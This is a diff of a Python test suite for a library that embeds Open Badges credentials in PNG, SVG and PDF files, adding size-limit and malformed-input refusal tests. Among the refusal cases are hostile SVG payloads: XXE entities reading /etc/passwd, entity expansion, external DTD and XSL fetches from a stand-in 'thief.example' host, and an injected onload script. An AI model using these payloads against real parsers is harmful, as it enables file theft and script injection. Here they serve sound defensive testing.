@@ -12,19 +12,13 @@ from hypothesis import strategies as st
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
 
-from munera.engines.attestation.baking import (
-    MAX_CHUNKS,
-    MAX_FILE,
-    MAX_NAMES,
-    MAX_NODES,
-    MAX_SVG,
-    PNG_KEYWORD,
-    PNG_SIGNATURE,
-    bake_pdf,
-    bake_png,
-    bake_svg,
-    unbake,
-)
+from munera.engines.attestation.baking import bake_pdf, bake_png, bake_svg, unbake
+from munera.engines.attestation.baking.held import MAX_FILE
+from munera.engines.attestation.baking.pdf import MAX_NAMES, MAX_PDF
+from munera.engines.attestation.baking.png import KEYWORD as PNG_KEYWORD
+from munera.engines.attestation.baking.png import MAX_CHUNKS
+from munera.engines.attestation.baking.png import SIGNATURE as PNG_SIGNATURE
+from munera.engines.attestation.baking.svg import MAX_ATTRIBUTES, MAX_SVG, MAX_TAGS
 from munera.engines.attestation.canonical import MAX_BYTES, canonical
 from munera.engines.attestation.errors import AttestationError
 from tests.engines.attestation.published import vectors
@@ -77,7 +71,7 @@ BAKERS = [(png, bake_png), (lambda: SVG, bake_svg), (pdf, bake_pdf)]
 
 
 @pytest.mark.parametrize("kind", ["png", "svg"])
-def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str) -> None:
+def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str, tally: Callable[..., None]) -> None:
     folder = vectors("open-badges-3")
     found = {path.name: unbake(path.read_bytes()) for path in sorted(folder.glob(f"*.{kind}"))}
 
@@ -86,6 +80,7 @@ def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str) -> None:
     for name in (f"simple-jwt.{kind}", f"simple-jwt_v1.{kind}"):
         assert found[name][0].startswith(b"eyJhbGciOiJSUzI1NiIsImp3ayI6")
         assert found[name][0].count(b".") == 2
+    tally("Open Badges 3.0 pictures", accepted=len(found))
 
 
 # There and back
@@ -123,6 +118,14 @@ def test_any_credential_survives_an_svg_or_is_refused(members: dict[str, str]) -
         assert unbake(bake_svg(SVG, data)) == [data]
 
 
+@pytest.mark.parametrize("character", ["\ufffe", "\uffff"])
+def test_a_character_that_xml_cannot_hold_is_refused(character: str) -> None:
+    data = canonical({"name": character})
+
+    assert refusal(lambda: bake_svg(SVG, data)) == "not-a-credential"
+    assert unbake(bake_png(png(), data)) == [data]
+
+
 def test_the_picture_stays_the_same_picture() -> None:
     assert bake_png(png(), CREDENTIAL).replace(baked_chunk(), b"") == png()
     assert b'<circle r="4"/>' in bake_svg(SVG, CREDENTIAL)
@@ -134,7 +137,7 @@ def test_a_document_says_what_its_attachment_is() -> None:
 
     assert (attached.name, attached.subtype) == ("openbadgecredential.json", "/application/vc")
     assert attached.associated_file_relationship == "/Data"
-    assert len(reader.root_object["/AF"]) == 1  # type: ignore[arg-type]  # an array, which pypdf types as any object
+    assert len(reader.root_object["/AF"]) == 1
     assert len(reader.pages) == 1
 
 
@@ -166,8 +169,9 @@ def test_a_file_of_another_kind_is_named_so(data: bytes) -> None:
 def test_row_23_a_file_is_no_larger_than_a_picture_needs() -> None:
     assert refusal(lambda: unbake(PNG_SIGNATURE + bytes(MAX_FILE))) == "too-large"
     assert refusal(lambda: unbake(b"<svg>" + b" " * MAX_SVG)) == "too-large"
-    many = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * (MAX_NODES + 1) + b"</svg>"
-    assert refusal(lambda: unbake(many)) == "too-large"
+    assert refusal(lambda: unbake(b"%PDF-1.7" + b" " * MAX_PDF)) == "too-large"
+    for inside in (b"<g/>" * MAX_TAGS, b"<g " + b"a='' " * (MAX_ATTRIBUTES + 1) + b"/>"):
+        assert refusal(lambda i=inside: unbake(SVG.replace(b"<circle", i + b"<circle"))) == "too-large"
     assert refusal(lambda: unbake(with_chunks(*[chunk(b"teSt", b"")] * MAX_CHUNKS))) == "too-large"
 
 
@@ -247,6 +251,7 @@ def test_row_23_a_drawing_that_acts_is_refused(inside: bytes) -> None:
         (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://thief.example/x.dtd">%p;]>', "entities"),
+        (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>', "entities"),
         (b'<?xml-stylesheet type="text/xsl" href="https://thief.example/x.xsl"?>', "active"),
         (b"<html><body/></html>", "not-svg"),
         (b"<!-- -- -->", "not-svg"),
@@ -321,7 +326,23 @@ def test_a_locked_or_broken_document_is_refused() -> None:
     assert refusal(lambda: unbake(locked.getvalue())) == "encrypted"
     assert refusal(lambda: unbake(b"%PDF-1.7\n")) == "not-pdf"
     assert refusal(lambda: unbake(pdf()[:-60])) == "not-pdf"
+    assert refusal(lambda: unbake(pdf() + bytes(2_000))) == "not-pdf"
     assert refusal(lambda: bake_pdf(b"%PDF-1.7 nothing", CREDENTIAL)) == "not-pdf"
+
+
+def test_xml_that_is_no_drawing_is_refused() -> None:
+    for other in (b"<html/>", b"<svg/>", b'<svg xmlns="https://svg.example"/>', b"<"):
+        assert refusal(lambda o=other: unbake(o)) == "not-svg"
+
+
+def test_a_document_that_can_be_read_but_not_rewritten_is_refused() -> None:
+    """A catalogue that says it has pages and has none."""
+    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\n"
+    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
+    document = body + table + b"trailer\n<< /Root 1 0 R /Size 2 >>\nstartxref\n%d\n%%%%EOF" % len(body)
+
+    assert unbake(document) == []
+    assert refusal(lambda: bake_pdf(document, CREDENTIAL)) == "not-pdf"
 
 
 def test_an_attachment_that_is_no_stream_is_passed_over() -> None:
